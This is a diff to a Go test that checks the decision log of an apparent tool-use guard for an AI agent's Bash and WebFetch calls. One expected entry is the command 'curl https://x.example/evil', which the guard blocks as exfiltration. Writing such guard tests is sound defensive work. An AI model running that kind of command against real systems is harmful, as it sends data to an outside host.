@@ -490,7 +490,7 @@ func TestDecisionLog(t *testing.T) {
 		{"event": "before_tool_use", "session": "s", "tool": "Bash", "use": "use of ls -la", "command": "ls -la", "decision": "allow", "rules": []any{"ls.allow"}, "reach": "local"},
 		{"event": "before_tool_use", "session": "s", "tool": "WebFetch", "use": "use of WebFetch", "decision": "skip", "reach": "network", "seen": []any{"WebFetch https://example.org/"}},
 		{"event": "before_tool_use", "session": "s", "tool": "Bash", "use": "use of curl https://x.example/evil", "command": "curl https://x.example/evil", "decision": "block", "corruption": 2.0,
-			"reason": "Flagged by the reviewer: it would send data out (exfiltration)", "rules": []any{"cop.flag"}, "provider": "openai", "reach": "network", "cop": "flag", "cop_code": "exfiltration"},
+			"reason": "Flagged by the reviewer: it would send data out (exfiltration)", "rules": []any{"cop.flag", "curl.allow"}, "provider": "openai", "reach": "network", "cop": "flag", "cop_code": "exfiltration"},
 		{"event": "after_tool_use", "session": "s", "agent": "a1", "tool": "WebFetch", "use": "use of WebFetch"},
 	}
 	if diff := cmp.Diff(want, got); diff != "" {
